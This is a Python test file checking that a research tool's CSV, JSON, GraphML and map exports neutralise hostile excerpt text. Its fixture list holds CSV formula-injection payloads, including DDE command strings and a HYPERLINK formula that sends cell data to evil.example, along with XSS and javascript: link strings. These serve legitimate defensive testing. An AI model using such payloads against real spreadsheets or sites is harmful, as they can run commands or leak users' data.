"""Hostile text is inert in every export (#8): excerpt text and metadata holding HTML, JavaScript,
Markdown and spreadsheet formulas. CSV cells that a spreadsheet would evaluate are neutralised;
JSON and GraphML keep the text as data; the map's hover labels escape HTML.

The app itself is covered by test_browser.py::test_hostile_excerpt_is_shown_as_text_and_runs_nothing.
"""

from __future__ import annotations

import csv
import json
import random

import networkx as nx
import pytest

from pipelines import store
from pipelines.analysis import results  # noqa: F401  (registers the analysis exporters)
from pipelines.exports import EXPORTERS, FORMULA_START, export
from tests.test_kills import _write_file

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click") recovery hope identity',
    "+cmd|' /C calc'!A0 recovery housing work",
    "-2+3+cmd|' /C calc'!A0 desistance identity",
    "@SUM(1+1)*cmd|' /C calc'!A0 peer support",
    "<script>alert('x')</script> recovery community belonging",
    "<img src=x onerror=alert(1)> harm reduction choice",
    "[click me](javascript:alert(1)) **bold** probation label",
    "\tleading tab then formula =1+1 trust service",
]


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    from pipelines.cli import main

    folder = tmp_path_factory.mktemp("hostile")
    db = folder / "store.sqlite"
    filler = folder / "filler.csv"
    _write_file(filler, "fill", 60, random.Random(4))
    rows = ["id,text,field,title,authors,venue,note"]
    for i, text in enumerate(HOSTILE):
        quoted = text.replace('"', '""')
        rows.append(
            f'"=h{i}","{quoted}",{["youth", "substance_use", "criminal_justice"][i % 3]},'
            f'"=1+{i}","+Smith, A.","<b>@venue</b>","-note {i}"'
        )
    hostile = folder / "hostile.csv"
    hostile.write_text("\n".join(rows) + "\n", encoding="utf-8")
    assert main(["fields", "--db", str(db), "add", "youth", "--label", "=cmd|' /C calc'!A0"]) == 0
    assert main(["ingest", "--db", str(db), str(filler), str(hostile)]) == 0
    assert main(["build", "--db", str(db), "--model", "hash-256"]) == 0
    return db


TABLES = sorted(name for name, e in EXPORTERS.items() if "csv" in e.formats)


@pytest.mark.parametrize("what", TABLES)
def test_csv_exports_neutralise_formula_cells(what, hostile_store, tmp_path):
    out = tmp_path / f"{what}.csv"
    export(store.connect(hostile_store), what, out, "csv")
    with out.open(newline="", encoding="utf-8") as handle:
        cells = [c for row in csv.reader(handle) for c in row]
    assert cells
    dangerous = [c for c in cells if c.startswith(FORMULA_START) and not _number(c)]
    assert dangerous == []
    if what == "excerpts":
        joined = "\n".join(cells)
        for text in HOSTILE:
            assert text.strip() in joined or "'" + text in joined


def _number(cell: str) -> bool:
    """A negative number is data, not a formula (pandas writes numeric columns unquoted)."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_json_export_keeps_hostile_text_as_plain_data(hostile_store, tmp_path):
    out = tmp_path / "excerpts.json"
    export(store.connect(hostile_store), "excerpts", out, "json")
    texts = {row["text"] for row in json.loads(out.read_text(encoding="utf-8"))}
    assert {t.strip() for t in HOSTILE} <= {t for t in texts}


def test_graphml_keeps_hostile_labels_as_text(hostile_store, tmp_path):
    out = tmp_path / "graph.graphml"
    export(store.connect(hostile_store), "graph", out, "graphml")
    graph = nx.read_graphml(out)
    labels = {data.get("label") for _, data in graph.nodes(data=True)}
    assert "=cmd|' /C calc'!A0" in labels
    assert "<script" not in out.read_text(encoding="utf-8")


def test_map_hover_labels_escape_html(hostile_store):
    from crosswalk_ui import figures

    conn = store.connect(hostile_store)
    frame = store.excerpts(conn)
    frame = frame.assign(x=0.0, y=0.0, label=frame["text"])
    fig = figures.excerpt_map(frame, colour_by={"field": "field", "text": "label"}, title="map")
    points = fig.data[0]
    restyles = [button.args[0] for button in fig.layout.updatemenus[0].buttons]
    hover = "\n".join(
        [*points.text, *points.hovertext, *(t for look in restyles for t in look["hovertext"][0])]
    )
    assert "&lt;script&gt;" in hover and "&lt;img" in hover
    assert "<script" not in hover and "<img" not in hover
